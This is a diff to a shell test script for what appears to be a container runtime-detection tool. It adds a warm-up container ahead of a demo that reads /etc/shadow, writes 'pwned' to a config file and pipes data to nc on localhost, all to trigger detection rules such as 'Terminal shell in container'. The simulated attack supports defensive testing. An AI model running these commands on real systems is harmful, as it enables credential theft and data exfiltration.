@@ -28,6 +28,11 @@ chmod 600 "$CT_ROOTFS/etc/shadow"
 CT_ROOT_RO=false ct_bundle $CT_DIR/demo shell true "$CT_CGROUP_POD/$ID" \
 	'"sh", "-c", "cat /etc/shadow >/dev/null; echo pwned >>/etc/kcap-demo.conf; echo exfil | nc -w 1 127.0.0.1 8080; exit 0"' \
 	"$(ct_pod_annotations shop-web)"
+# a container the node ran before (runc's first start in a fresh guest is
+# slow enough to keep kcap's metadata lookups from the CPU: 16-container)
+WARM=c0de0000$(echo $ID | cut -c9-)
+ct_bundle $CT_DIR/warm plain false "$CT_CGROUP_POD/$WARM" '"true"'
+CT_QUIET=1 CT_PAUSE_US=0 ct_run runc $WARM $CT_DIR/warm /tmp/warm.out
 cat >/tmp/demo_rules.yaml <<'EOF'
 # The container's image and pod in the alerts of kcap's container rules.
 - rule: Terminal shell in container
